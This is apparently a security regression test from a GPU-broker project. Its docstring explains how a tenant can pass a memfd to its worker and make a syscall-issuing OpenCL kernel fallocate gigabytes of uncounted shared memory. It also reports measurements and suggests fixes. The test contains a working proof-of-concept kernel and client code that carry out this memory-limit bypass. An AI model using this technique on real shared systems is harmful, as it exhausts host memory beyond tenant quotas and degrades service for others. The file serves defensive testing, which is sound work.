"""A memfd the tenant's own client passes over its link is filled by the worker, outside every memory bound.

The hole: links accept descriptors once handed to the worker (the ring's ``RingOffer`` carries a memfd and a
doorbell); the checks on them (sealed, exactly the ring's size: worker/_ring.py) run in the worker, in the tenant's
control, and nothing in the front sees or counts them. A kernel ``recvmsg``s a memfd straight off its link (the
worker's main thread is busy running that very launch, so nothing else reads the link) and ``fallocate``s it:
shmem pages that no rlimit counts (RLIMIT_AS counts mappings, RLIMIT_FSIZE a file's growth: the client sized the
file), charged, without a delegated cgroup, to the broker's own memory cgroup. The docs' fallback row says
``memfd_create`` is refused "so the only shared memory a worker maps is the front's segments"; this memfd is
neither refused nor counted (the same holds for any file the client sends: a sparse tmpfs file).

Measured (PoCL, rlimits fallback, tenant quota 64 MiB): one fallocate of 1 GiB in 0.3 s, /proc/meminfo Shmem
+1,024 MiB, still there after the client closed its copy (the worker holds it), with ``worker_memory_max`` =
1 GiB: 2 GiB. Nothing in Usage, the metrics or the worker's limits shows it.

Suggested fix: never let a worker receive a descriptor the front has not checked: keep ``SO_PASSRIGHTS`` off on
every link socket a worker holds, and carry a ring's memfd like a segment's (sent to the front on ``.fast``,
checked sealed and exactly sized there, charged to the tenant's ``shared_memory``, passed on by the front); or
refuse a ring without descriptors and have the front create the ring's memfd itself. Until then, count in the
front (``/proc/<worker>/fdinfo`` of every memfd the worker's tree holds) and kill a worker past its limit.
"""

from __future__ import annotations

import array
import os
import socket
import threading
import time

import numpy as np

from gpubroker.broker.launcher import BrokerProcess, TenantSpec
from gpubroker.client import connect
from gpubroker.client._transports._link import FramedSocket, unix_connector

from ..exploits import SYSCALL_SOURCE

LIMIT = 1 << 30
SIZE = 2 << 30
SOURCE = SYSCALL_SOURCE + r"""
__kernel void grab(__global long* s, long size, long secs) {
    sys6(228, 1, (long)&s[40], 0, 0, 0, 0);
    long end = s[40] + secs;
    s[0] = -1;
    while (1) {
        for (int fd = 3; fd < 256; fd++) {
            long n = sys6(45, fd, (long)&s[12], 4, 2 | 0x40, 0, 0);      /* recvfrom(MSG_PEEK | MSG_DONTWAIT) */
            if (n == 4 && s[12] == 0x5a5a5a5aL) {                       /* "ZZZZ": our link */
                s[8] = (long)&s[12]; s[9] = 4;                          /* iovec */
                s[1] = 0; s[2] = 0; s[3] = (long)&s[8]; s[4] = 1;       /* msghdr */
                s[5] = (long)&s[16]; s[6] = 64; s[7] = 0;
                s[20] = sys6(47, fd, (long)&s[1], 0x40, 0, 0, 0);       /* recvmsg */
                int memfd = ((__global int*)&s[16])[4];
                s[23] = sys6(285, memfd, 0, 0, size, 0, 0);             /* fallocate(memfd, 0, 0, size) */
                s[0] = 0;
                return;
            }
        }
        sys6(228, 1, (long)&s[42], 0, 0, 0, 0);
        if (s[42] >= end) return;
    }
}
"""


def _shmem() -> int:
    with open("/proc/meminfo") as f:
        return next(int(line.split()[1]) * 1024 for line in f if line.startswith("Shmem:"))


def test_a_worker_cannot_fill_host_memory_past_its_limit_through_a_client_memfd() -> None:
    with BrokerProcess([TenantSpec("alice", memory_quota=64 << 20)], backend="opencl",
                       settings={"worker_memory_max": LIMIT}) as broker:
        gpu = connect(broker.target, token=broker.tokens["alice"], transport="grpc")
        grab = gpu.compile_kernel(SOURCE, "grab")
        scratch = gpu.allocate_memory(4096)
        gpu.copy_h2d(bytes(4096), scratch)
        link = FramedSocket(unix_connector(broker.target[len("unix:"):] + ".fast"), broker.tokens["alice"],
                            gpu._session, kind="unix", timeout=10)
        link.open()
        memfd = os.memfd_create("attacker")
        os.ftruncate(memfd, SIZE)  # sparse: nothing charged to the client
        before = _shmem()
        launch = threading.Thread(target=lambda: (gpu.execute_kernel(grab, 1, 1, [scratch, np.int64(SIZE),
                                                                                   np.int64(10)]),
                                                  gpu.synchronize()))
        launch.start()
        time.sleep(1.0)
        assert link.sock is not None
        try:
            link.sock.sendmsg([b"ZZZZ"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [memfd]))])
        except OSError:
            pass  # (refused: the property holds)
        launch.join()
        os.close(memfd)  # the worker's copy is all that is left
        time.sleep(0.5)
        grown = _shmem() - before
        assert grown < LIMIT, (f"alice's worker holds {grown / 2**20:,.0f} MiB of host shared memory, "
                               f"worker_memory_max = {LIMIT >> 20} MiB, quota 64 MiB")
